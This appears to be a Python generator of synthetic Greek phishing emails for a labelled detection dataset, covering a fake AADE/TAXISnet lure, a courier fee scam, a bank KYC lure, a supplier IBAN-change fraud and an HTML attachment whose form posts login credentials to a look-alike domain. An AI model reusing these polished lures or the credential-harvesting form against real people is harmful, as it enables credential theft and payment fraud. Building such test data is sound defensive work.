"""Attack messages, Greek (32-36)."""
from util import *
from profiles import smtp_client, brevo, mailgun
from profiles2 import custom
from lib import pdf
from lib.bank import fmt_iban
from company import IBAN, BIC, EG_GR_AFM


def a32():
    m = Msg("attack", 32, "el", "aade-mydata-apoklisi",
            "AADE/myDATA lure: 'discrepancy in your myDATA electronic books - confirm your AFM via TAXISnet by 12/11/2026', "
            "link to a fake TAXISnet login",
            "AADE does not send login links for myDATA discrepancies; look-alike domain aade-mydata.com on a VPS without "
            "rDNS; quotes the company AFM; fine threat (ν. 4987/2022 penalties).", pair="business 34")
    m.rcpt = "eleni.konstantinou@examplegroup.eu"
    m.t = T(2026, 11, 6, 9, 41, 12, "GR")
    c = m.ctx
    t = ago(m.t, 1)
    url = "https://aade-mydata.com/taxisnet/login?afm=%s&r=%s" % (EG_GR_AFM, c.hex(12))
    custom(m, ("mail.aade-mydata.com", "unknown", "45.147.201.66", "1.2"), "<enimerosi@aade-mydata.com>", [],
           [("From", addr("ΑΑΔΕ - myDATA", "enimerosi@aade-mydata.com", "iso-8859-7", "Q")),
            ("To", "eleni.konstantinou@examplegroup.eu"),
            ("Subject", hval("Απόκλιση στα ηλεκτρονικά βιβλία myDATA - Απαιτείται επιβεβαίωση έως 12/11/2026", "iso-8859-7", "Q")),
            ("Date", fmt(t, "GR")), ("Message-ID", "<%s@aade-mydata.com>" % c.hex(28)),
            ("MIME-Version", "1.0"), ("MIME", None)],
           boundary=lambda n=0: "----=_Part_%s" % c.hex(16))
    text = """ΑΝΕΞΑΡΤΗΤΗ ΑΡΧΗ ΔΗΜΟΣΙΩΝ ΕΣΟΔΩΝ
Ηλεκτρονικά Βιβλία - myDATA

Αξιότιμε/η επιτηδευματία,

Κατά τη διασταύρωση των στοιχείων που διαβιβάστηκαν στην πλατφόρμα myDATA για το τρίτο τρίμηνο 2026 εντοπίστηκε απόκλιση μεταξύ των χαρακτηρισμών εσόδων και των παραστατικών που έχουν εκδοθεί μέσω παρόχου ηλεκτρονικής τιμολόγησης.

Επωνυμία: EXAMPLE YACHTING HELLAS Μ.Ι.Κ.Ε.
ΑΦΜ: %s
Αριθμός αποκλίσεων: 14
Ποσό προς διευκρίνιση: 23.418,60 €

Παρακαλούμε να συνδεθείτε με τους κωδικούς TAXISnet και να επιβεβαιώσετε τα στοιχεία έως τις 12/11/2026:

%s

Σε περίπτωση μη επιβεβαίωσης, οι αποκλίσεις θα διαβιβαστούν στην αρμόδια Δ.Ο.Υ. για την επιβολή των προστίμων του ν. 4987/2022.

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
""" % (EG_GR_AFM, url)
    html = simple_html(text, "font-family:Arial,sans-serif;font-size:14px;color:#003476")
    m.notes.append("URL " + url)
    m.notes.append("AFM %s (check digit valid)" % EG_GR_AFM)
    m.body = alt(m, text, html, "iso-8859-7", "quoted-printable", quote_cs=False)
    m.body.fold = False
    return m


def a33():
    m = Msg("attack", 33, "el", "elta-courier-paradosi",
            "Courier lure: 'ELTA Courier - your shipment could not be delivered, confirm address and pay 1,85 EUR "
            "redelivery'",
            "Domain elta-courier-gr.com (real: elta-courier.gr) sent directly from a bulletproof VPS; redelivery fee by "
            "card link; generic.", pair=None)
    m.rcpt = "nikos.papadopoulos@example.com"
    m.t = T(2026, 12, 1, 11, 9, 33, "GR")
    c = m.ctx
    t = ago(m.t, 1)
    url = "https://elta-courier-gr.com/track/EL47812365%s/redelivery" % c.digits(2)
    custom(m, ("elta-courier-gr.com", "unknown", "91.92.245.31", "1.2"), "<noreply@elta-courier-gr.com>", [],
           [("Date", fmt(t, "GR")), ("From", addr("ΕΛΤΑ Courier", "noreply@elta-courier-gr.com", "windows-1253", "B")),
            ("To", "nikos.papadopoulos@example.com"),
            ("Subject", hval("Η αποστολή σας δεν παραδόθηκε - απαιτείται επιβεβαίωση διεύθυνσης", "windows-1253", "B")),
            ("Message-ID", "<%s.%s@elta-courier-gr.com>" % (c.digits(10), c.hex(8))), ("MIME-Version", "1.0"), ("MIME", None)])
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1253"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<div style="background:#ffd100;padding:14px 20px;font-size:22px;font-weight:bold;color:#0a3a82">ΕΛΤΑ Courier</div>
<div style="padding:20px;max-width:560px">
<p>Αγαπητέ πελάτη,</p>
<p>Η αποστολή σας με αριθμό <b>ΕΛ 4781 2365 0GR</b> δεν κατέστη δυνατό να παραδοθεί σήμερα, διότι η διεύθυνση παράδοσης είναι ελλιπής (δεν αναγράφεται όροφος/εταιρεία).</p>
<p>Για να προγραμματιστεί νέα παράδοση, παρακαλούμε επιβεβαιώστε τη διεύθυνσή σας και καταβάλετε το τέλος επαναποστολής <b>1,85 €</b> εντός 48 ωρών:</p>
<p><a href="URL" style="background:#0a3a82;color:#fff;padding:10px 24px;text-decoration:none">Επιβεβαίωση διεύθυνσης</a></p>
<p>Μετά την πάροδο της προθεσμίας η αποστολή επιστρέφεται στον αποστολέα.</p>
<p>Με εκτίμηση,<br>ΕΛΤΑ Courier Α.Ε.</p></div></body></html>
""".replace("URL", url)
    m.notes.append("URL " + url)
    m.body = Text(html, "html", "windows-1253", "base64")
    return m


def a34():
    m = Msg("attack", 34, "el", "piraeus-winbank-kyc",
            "Bank phishing: 'Piraeus Bank winbank business - update legal-entity (KYC) data by 20/11' with link",
            "Look-alike domain piraeusbank-winbusiness.gr via Brevo; bank does not request KYC via mail links; "
            "suspension threat.", pair=None)
    m.rcpt = "eleni.konstantinou@examplegroup.eu"
    m.t = T(2026, 11, 13, 8, 20, 1, "GR")
    c = m.ctx
    url = "https://piraeusbank-winbusiness.gr/kyc/update?cid=%s" % c.digits(9)
    F = dict(frm=addr("Τράπεζα Πειραιώς", "ebanking@piraeusbank-winbusiness.gr", "UTF-8", "B"),
             to="eleni.konstantinou@examplegroup.eu",
             subject=hval("winbank business: Ενημέρωση στοιχείων νομικού προσώπου έως 20/11/2026", "UTF-8", "B"), t=m.t)
    brevo(m, F, ip="185.41.28.126", host="mta-185-41-28-126.mailin.fr")
    text = """Αξιότιμε πελάτη,

Στο πλαίσιο της υποχρέωσης της Τράπεζας για περιοδική επικαιροποίηση των στοιχείων των πελατών (ν. 4557/2018), παρακαλούμε να ενημερώσετε τα στοιχεία του νομικού προσώπου και των νόμιμων εκπροσώπων στο winbank business έως τις 20/11/2026.

Ενημέρωση στοιχείων: %s

Σε περίπτωση μη ενημέρωσης, οι συναλλαγές πληρωμών μέσω winbank business θα περιοριστούν έως την προσκόμιση των δικαιολογητικών σε κατάστημα.

Με εκτίμηση,
Τράπεζα Πειραιώς Α.Ε.
Διεύθυνση Ψηφιακής Τραπεζικής
""" % url
    html = simple_html(text, "font-family:Arial,sans-serif;font-size:14px;color:#1a1a1a")
    m.notes.append("URL " + url)
    m.body = alt(m, text, html, "UTF-8", "base64")
    return m


def a35():
    m = Msg("attack", 35, "el", "aegean-supplies-iban-lookalike",
            "Supplier bank change: 'Aegean Yacht Supplies accounting' announces a new account at Bank of Cyprus and asks "
            "to pay invoice 2026/1418 there; PDF notice attached",
            "Domain aegean-yachtsuplies.gr (one 'p' missing) on a VPS; Greek supplier suddenly wants payment to a Cypriot "
            "account; bank change by e-mail only; urgency.", pair="business 32")
    m.rcpt = "eleni.konstantinou@examplegroup.eu"
    m.t = T(2026, 11, 23, 10, 52, 47, "GR")
    c = m.ctx
    iban = IBAN["att_aegean_cy"]
    F = dict(frm=addr("Λογιστήριο Aegean Yacht Supplies", "logistirio@aegean-yachtsuplies.gr", "iso-8859-7", "B"),
             to=addr("Ελένη Κωνσταντίνου", "eleni.konstantinou@examplegroup.eu", "iso-8859-7", "B"),
             subject=hval("Αλλαγή τραπεζικού λογαριασμού - Τιμολόγιο 2026/1418", "iso-8859-7", "B"),
             t=ago(m.t, 3), tz="GR", env="logistirio@aegean-yachtsuplies.gr", lang="el")
    smtp_client(m, F, relay="vm-31-220-104-9.cloud-vps.net", relay_ip="31.220.104.9", out_helo="mail.aegean-yachtsuplies.gr",
                client_helo="[192.168.88.21]", client_rdns="unknown", client_ip="154.6.23.41",
                auth="logistirio@aegean-yachtsuplies.gr", mailer="Microsoft Outlook 16.0",
                mid=c.outlook_imap_mid("aegean-yachtsuplies.gr"), relay_tz="GR")
    text = """Καλημέρα σας κυρία Κωνσταντίνου,

Σας ενημερώνουμε ότι λόγω μεταφοράς της εταιρικής μας τραπεζικής συνεργασίας, από 20/11/2026 οι πληρωμές προς την εταιρεία μας θα γίνονται αποκλειστικά στον παρακάτω λογαριασμό:

Δικαιούχος: AEGEAN YACHT SUPPLIES S.A.
Τράπεζα: Bank of Cyprus Public Company Ltd
IBAN: %s
BIC: %s

Ο λογαριασμός μας στην Τράπεζα Πειραιώς παύει να λειτουργεί και τυχόν καταθέσεις θα επιστραφούν.

Παρακαλούμε να εξοφλήσετε το τιμολόγιο 2026/1418 (ποσό 6.742,30 €) στον νέο λογαριασμό έως την Παρασκευή και να μας στείλετε το αποδεικτικό. Επισυνάπτεται η επίσημη επιστολή της εταιρείας.

Με εκτίμηση,
Λογιστήριο
Aegean Yacht Supplies Α.Ε.
Ακτή Μιαούλη 47, 185 36 Πειραιάς
""" % (fmt_iban(iban), BIC["att_aegean_cy"])
    letter = pdf.simple_doc([
        "#AEGEAN YACHT SUPPLIES S.A.", "Akti Miaouli 47, 185 36 Piraeus, Greece", "",
        "To: Example Yachting Hellas M.I.K.E., Lavrio Marina", "Date: 19/11/2026", "",
        "#Notice of change of bank account", "",
        "Please be informed that as of 20/11/2026 all payments to our company must be made exclusively to:", "",
        "Beneficiary:  AEGEAN YACHT SUPPLIES S.A.",
        "Bank:         Bank of Cyprus Public Company Ltd, Nicosia",
        "IBAN:         " + fmt_iban(iban), "BIC:          " + BIC["att_aegean_cy"], "",
        "Our previous account with Piraeus Bank is being closed.", "",
        "Yours faithfully,", "", "G. Dimitriou", "Managing Director",
    ], title="Bank account change", creator="Microsoft Word", producer="Microsoft Word", date="D:20261119101122+02'00'")
    m.notes.append("IBAN %s (CY, mod-97 valid)" % iban)
    m.body = Multipart("mixed", [Text(text, "plain", "iso-8859-7", "8bit"),
                                 Attachment(letter, "application/pdf", "Bank_account_change_AYS.pdf")], m.boundary())
    return m


def a36():
    m = Msg("attack", 36, "el", "govgr-thyrida-html-taxisnet",
            "gov.gr lure: 'new notice in your digital mailbox - fine imposed by the Hellenic Coast Guard' with an HTML "
            "attachment that is a TAXISnet credential form",
            "Look-alike gov-gr-thyrida.com via Mailgun; gov.gr notices never carry HTML attachments; the attachment's form "
            "posts TAXISnet username/password to the attacker; fine/deadline pressure on a marina operator.", pair=None)
    m.rcpt = "nikos.papadopoulos@example.com"
    m.t = T(2026, 10, 16, 12, 15, 26, "GR")
    c = m.ctx
    F = dict(frm=addr("gov.gr - Ψηφιακή Θυρίδα", "noreply@gov-gr-thyrida.com", "windows-1253", "Q"),
             to="nikos.papadopoulos@example.com",
             subject=hval("Νέα ειδοποίηση στη θυρίδα σας: Πράξη επιβολής προστίμου (Λιμενικό Σώμα)", "windows-1253", "Q"),
             t=m.t, from_domain="gov-gr-thyrida.com", env_local="noreply")
    mailgun(m, F, ip="159.135.224.73", host="m224-73.mailgun.net")
    text = """Ενιαία Ψηφιακή Πύλη της Δημόσιας Διοίκησης - gov.gr

Αγαπητέ/ή χρήστη,

Στην ψηφιακή θυρίδα σας έχει κατατεθεί νέο έγγραφο:

Φορέας: Λιμενικό Σώμα - Ελληνική Ακτοφυλακή, Κεντρικό Λιμεναρχείο Λαυρίου
Έγγραφο: Πράξη επιβολής διοικητικού προστίμου αρ. 1873/2026
Θέμα: Παράβαση διατάξεων για επαγγελματικά πλοία αναψυχής (ν. 4256/2014)

Το έγγραφο επισυνάπτεται στο παρόν μήνυμα. Για την προβολή του απαιτείται ταυτοποίηση με τους κωδικούς TAXISnet.

Προθεσμία άσκησης προσφυγής: 10 ημέρες από την κοινοποίηση.

gov.gr
"""
    action = "https://gov-gr-thyrida.com/oauth2/taxis/login"
    att = """<!DOCTYPE html><html lang="el"><head><meta charset="utf-8"><title>gov.gr - Αυθεντικοποίηση</title>
<style>body{font-family:Roboto,Arial,sans-serif;background:#fff;margin:0}.top{background:#003476;color:#fff;padding:14px 24px;font-size:20px;font-weight:bold}
.f{width:380px;margin:40px auto}label{display:block;margin-top:14px;font-size:14px}input{width:100%;padding:9px;border:2px solid #0b0c0c;font-size:15px}
button{margin-top:20px;background:#00703c;color:#fff;border:0;padding:10px 22px;font-size:16px}</style></head>
<body><div class="top">gov.gr</div><div class="f">
<h2 style="font-size:22px">Σύνδεση με κωδικούς TAXISnet</h2>
<p style="font-size:14px">Για την προβολή του εγγράφου «Πράξη επιβολής διοικητικού προστίμου αρ. 1873/2026» απαιτείται αυθεντικοποίηση.</p>
<form method="post" action="ACTION">
<label>Χρήστης</label><input name="username" autocomplete="off"><label>Κωδικός</label><input name="password" type="password">
<input type="hidden" name="doc" value="1873/2026"><button type="submit">Σύνδεση</button></form>
<p style="font-size:12px;color:#505a5f;margin-top:30px">Γενική Γραμματεία Πληροφοριακών Συστημάτων Δημόσιας Διοίκησης</p></div></body></html>
""".replace("ACTION", action)
    m.notes.append("form action " + action)
    m.body = Multipart("mixed", [Text(text, "plain", "windows-1253", "quoted-printable"),
                                 Attachment(att.encode("utf-8"), "text/html", "Praxi_Epivolis_Prostimou_1873_2026.html")],
                       m.boundary())
    return m


BUILDERS = [a32, a33, a34, a35, a36]
